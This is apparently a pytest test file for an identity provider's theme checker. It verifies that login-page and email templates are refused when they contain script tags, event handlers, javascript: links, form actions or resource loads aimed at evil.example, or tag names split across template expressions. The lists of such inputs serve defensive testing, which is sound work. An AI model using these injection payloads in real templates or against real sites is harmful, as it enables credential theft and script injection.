"""Nothing of a theme runs where passwords are typed, and nothing leads a page to another host."""

import pytest

from idp.theming import ThemeRefused
from idp.theming.markup import Kind, check_markup, find_wrong
from tests.theming.samples import ROOT

WRONG = [
    ("<script>go()</script>", "<script>"),
    ("<SCRIPT src='{{ static('a.js') }}'></SCRIPT>", "<script>"),
    ('<iframe src="/x"></iframe>', "<iframe>"),
    ('<base href="/x">', "<base>"),
    ('<p onclick="go()">', "on…="),
    ("<img src=x{{ locale }} onerror=go()>", "on…="),
    ('<a {% if a > b %}\nonfocus="go()"{% endif %}>', "on…="),
    ('<a href="javascript:go()">', "javascript:"),
    ('<a href=" Java\tScript:go()">', "javascript:"),
    ('<img src="https://evil.example/x.png">', "another host"),
    ('<img src="//evil.example/x.png">', "another host"),
    ('<img src="http://{{ locale }}.example/x.png">', "another host"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "another host"),
    ('<form action="https://evil.example/">', "elsewhere"),
    ('<button formaction="//evil.example/">', "another host"),
    ('<form action="https:\\\\evil.example">', "elsewhere"),
    ('<p style="background:url(https://evil.example/x.png)">', "another host"),
    ("<!-- <script>go()</script> -->", "<script>"),
    ("<!--><script>go()</script><!-- -->", "<script>"),
    ("<p><![CDATA[<script>go()</script>]]>", "<!-- … -->"),
    ("<![x[ ]]>", "<!-- … -->"),
    ("x]><!--><p>y</p><!-- -->", "<!-- … -->"),
    ("<!-- {{ super() }}<p>16263</p>", "not closed"),
    ("<a href='/x\">x</a><p>", "not closed"),
    ('<a href="/x>x</a><p class="y">', "quotes, which are closed"),
    ("{{ super() }}<br", "not closed"),
    ("<p>x</p", "not closed"),
    ("<style>", "not closed"),
]
# In a page, whatever the value: a branch that no state takes would show another one.
IN_PAGES = [
    ('<button formaction="{{ frame.action }}">', "formaction"),
    ('{% macro sly() %} formaction="{{ frame.action }}"{% endmacro %}', "formaction"),
    ('<meta http-equiv="refresh" content="0;url=/x">', "http-equiv"),
    ('<META NAME="Referrer" content="no-referrer">', "ours to say"),
    ('<a href="/x" referrerpolicy="unsafe-url">', "ours to say"),
    ("<form action=\"{{ 'https://evil.example/' }}\">", "elsewhere"),
    ('<form action="{{ frame.client_home }}">', "elsewhere"),
    ('<form action="/x" action="{{ frame.action }}">', "elsewhere"),
    ("<form><input name='password'></form>", "elsewhere"),
    ('<form{% if wide %} action="{{ frame.action }}"{% endif %} action="/x">', "elsewhere"),
    ('<img src="banner.png">', 'write src="{{ static("banner.png") }}"'),
    ('<img src="/static/banner.png">', 'write src="{{ static("banner.png") }}"'),
    ('<video poster="Banner.png">', 'write poster="{{ static("Banner.png") }}"'),
    ('<img srcset="a.png 1x, b.png 2x">', 'write srcset="{{ static("…") }}"'),
    ("<style>p{color:red}</style>", "style.css"),
    ('<p style="color:red">', "style.css"),
    ('<p {% if wide %} style="{{ look.footer }}"{% endif %}>', "style.css"),
    ('<link rel="StyleSheet" href="{{ static("a.css") }}">', "style.css"),
    ("<{{ 'script' }}>", "written out"),
    ("<{% if wide %}script{% endif %}>", "written out"),
    ("<s{{ 'cript' }}>", "written out"),
    ("<s{% if wide %}cript{% endif %}>", "written out"),
    ("<s{% include 'x.html' %}>", "written out"),
    ("<s{# x #}cript>", "<script>"),
    ("<s{% if wide %}\ncript{% endif %}>", "written out"),
    ("<p form {%- if wide %}action='x'{% endif %}>", "written out"),
    ("<form action='{{ frame.action }}' {{ 'action=//evil.example' }}>", "written out"),
    ("<p {{ described('a') ~ ' action=//evil.example' }}>", "written out"),
    ("<p title={{ frame.client }}>", "in quotes"),
    ("""<p{{ " lang='bn'" if wide }}>""", "{% if … %} name{% endif %}"),  # quotes are escaped
    ('<p{{ " hidden" if wide else frame.client }}>', "written out"),
    ('<p{{ " hidden" if wide else " x" ~ title }}>', "written out"),
    ('<p{{ " hidden" if wide|safe }}>', "written out"),
    ('<s{{ " " if wide }}cript>', "written out"),
    ('<s{{ " x" if wide else "cript" }}>', "written out"),
    ('<s{{ " x" if wide else "" }}cript>', "written out"),
    ("""<p {{ described("(") ~ say("x)") }}>""", "written out"),
    ('<p {{ described("x", say(plain("x"))) }}>', "written out"),
    ("<s\n{%- if wide -%}\ncript{% endif %}>", "written out"),
    ("""{{ "}}<!--" }}<script>go()</script>{{ "-->" }}""", "<script>"),
    ("{% raw %}{{ <script>go()</script> }}{% endraw %}", "<script>"),
    ("<!-- --!><p>", "a comment"),
]
IN_LETTERS = [
    ('<img src="x.png">', "fetches nothing"),
    ("<img src=\"{{ 'https://evil.example/?' ~ facts.url }}\">", "fetches nothing"),
    ('<td background="{{ facts.page }}">', "fetches nothing"),
    ('<link href="/x.css">', "fetches nothing"),
    ('<p style="color:red;background:URL( x.png)">', "fetches nothing"),
    ('<p style="background:u\\72l(x.png)">', "fetches nothing"),
    ("<style>p{background:url(x.png)}</style>", "fetches nothing"),
    ("<!-- {{ super() }}", "not closed"),
    ("<a href='/x\">x</a><p>", "not closed"),
    ('<!--[if mso]><img src="x.png"><![endif]-->', "fetches nothing"),
    ('<form action="{{ facts.page }}">', "a letter has no form"),
    ("<form><input name='password'></form>", "a letter has no form"),
    ('<meta http-equiv="refresh" content="0">', "http-equiv"),
]


@pytest.mark.parametrize(
    ("kind", "source", "what"),
    [
        *(("page", *wrong) for wrong in (*WRONG, *IN_PAGES)),
        *(("letter", *wrong) for wrong in IN_LETTERS),
    ],
)
def test_what_runs_or_leads_elsewhere_is_refused_with_its_line(tmp_path, kind, source, what):
    with pytest.raises(ThemeRefused) as refused:
        check_markup(tmp_path, f"<p>\n{{# a\nb #}}\n{source}", kind)
    assert {one.line for one in refused.value.all} == {4}
    assert any(what in one.what for one in refused.value.all), refused.value.all


@pytest.mark.parametrize(
    ("kind", "source"),
    [
        ("page", '<iframe src="https://evil.example/">'),
        ("page", '<script src="https://evil.example/x.js"></script>'),
        ("page", '<form action="https://evil.example/">'),
        ("page", '<img src="https://evil.example/x.png">'),
        ("page", '<img src="javascript:go()">'),
        ("letter", '<form action="{{ facts.page }}">'),
    ],
)
def test_one_mistake_is_told_once(tmp_path, kind, source):
    with pytest.raises(ThemeRefused) as refused:
        check_markup(tmp_path, source, kind)
    assert len(refused.value.all) == 1, refused.value.all


@pytest.mark.parametrize(
    "source",
    [
        '<a href="https://minister.example.gov.bd/">x</a>',
        '<img src="{{ static("a.png") }}" alt="">',
        '<img src="data:image/png;base64,AA">',
        '<p title="a script: onclick=1">javascript: and onclick= are words</p>',
        "{# <script> #}<p>",
        '<svg xmlns="http://www.w3.org/2000/svg"><use href="#a"/></svg>',
        "<style>{% block style %}{{ look.style }}{% endblock %}</style>",
        '<form action="{{ frame.action }}"></form><form action="{{view.check}}"></form>',
        """<p {% if wide %}class="a"{% elif notice %}class='b'{% endif %} id="{{ title ~ 1 }}">""",
        """<input value="on"{{ " checked" if view.others }} id="x"{{ described("x", "hint") }}>""",
        '<dd{% if wide %} lang="en"{% endif %}>{{ "<script>" }}<!-- nothing --></dd>',
        """<p{{ " hidden" if locale == "bn" }}{{ ' hidden' if errors[0] else " lang" }}>""",
        """<input {{ "checked" if errors and not wide else "" }} {{ "" if wide else 'x' }}>""",
        """<input id="x"{{ described("x", say("userid.hint"), "") }}>""",
        '<p\n  {%- if locale == "bn" %} lang="bn"{% endif -%}\n>',
        "<p>5 < 6 <3 &lt;b> &lt;!-- &#60;p</p>&lt;p",
        '<meta name="robots" content="referrer">',
        '<img src="{% if wide %}{{ look.logo }}{% endif %}" srcset="DATA:image/png;base64,AA">',
        "<img width=120>",
    ],
)
def test_links_words_and_files_of_ones_own_are_left_alone(tmp_path, source):
    check_markup(tmp_path, source, "page")


@pytest.mark.parametrize(
    "source",
    [
        '<p style="margin:0">{{ facts.code }}</p><a href="https://minister.example.gov.bd/">x</a>',
        "<style>p{color:red}</style><!--[if mso]><table></table><![endif]-->",
        "<!--[if mso]><td><![endif]--><!--[if !mso]><!--><p>x</p><!--<![endif]-->",
        "<!--[if !mso]><!-- --><p>a</p><!--<![endif]--><!--[if !mso | IE]><!-- --><p>",
    ],
)
def test_a_letter_has_styles_and_links_of_its_own(tmp_path, source):
    check_markup(tmp_path, source, "letter")


def test_a_picture_is_no_template_and_has_styles_of_its_own(tmp_path):
    check_markup(tmp_path, '<svg><style>p{color:red}</style><g style="x:y">{{ {% </g></svg>')
    with pytest.raises(ThemeRefused, match="<script>"):
        check_markup(tmp_path, "<svg>{{ <script>go()</script> }}</svg>")


@pytest.mark.parametrize("folder", ["templates", "mail"])
def test_the_templates_of_the_base_are_written_as_a_theme_may_write_them(folder):
    kind: Kind = "letter" if folder == "mail" else "page"
    for path in sorted((ROOT / "base" / folder).glob("*.html*")):
        if path.name not in {"form_post.html", "script.html"}:  # the scripts of ours
            check_markup(path, path.read_text("utf-8"), kind)


def test_what_the_original_page_has_is_no_fault_of_a_theme():
    ours = '<form action="https://client.example/"><script src="/a.js"></script>'
    assert find_wrong(f"<p>{ours}", "page", ours) == []
    assert any("elsewhere" in one for one in find_wrong(f'{ours}<form action="/">', "page", ours))
    assert find_wrong(ours.replace("a.js", "b.js"), "page", ours)


def test_the_same_tags_may_mean_another_thing_between_other_words():
    ours = '<p title="a>b">x</p><p title="a>b">y</p>'
    assert find_wrong(ours.replace("b", '" onclick="b', 1), "page", ours)


@pytest.mark.parametrize("name", ["templates/code.html", "mail/code.html.j2"])
def test_a_template_of_a_theme_that_would_run_is_refused(spoiled, name):
    source = (ROOT / "base" / name).read_text("utf-8")
    path = spoiled.write(name, source + '\n{% if false %}<p onclick="x">{% endif %}')
    with pytest.raises(ThemeRefused) as refused:
        spoiled.load()
    assert (refused.value.path, refused.value.line) == (path, source.count("\n") + 2)


def test_the_text_of_a_letter_is_no_html(spoiled):
    source = (ROOT / "base" / "mail" / "code.txt.j2").read_text("utf-8")
    spoiled.write("mail/code.txt.j2", f"{source}\n<script> is a word")
    assert spoiled.load()


@pytest.mark.parametrize(
    "inside", ["<script>go()</script>", '<g onload="go()"/>', '<a href="javascript:go()"/>']
)
def test_a_picture_that_would_run_is_refused(spoiled, inside):
    path = spoiled.write(
        "static/map.svg", f'<svg xmlns="http://www.w3.org/2000/svg">\n{inside}</svg>'
    )
    with pytest.raises(ThemeRefused) as refused:
        spoiled.load()
    assert (refused.value.path, refused.value.line) == (path, 2)
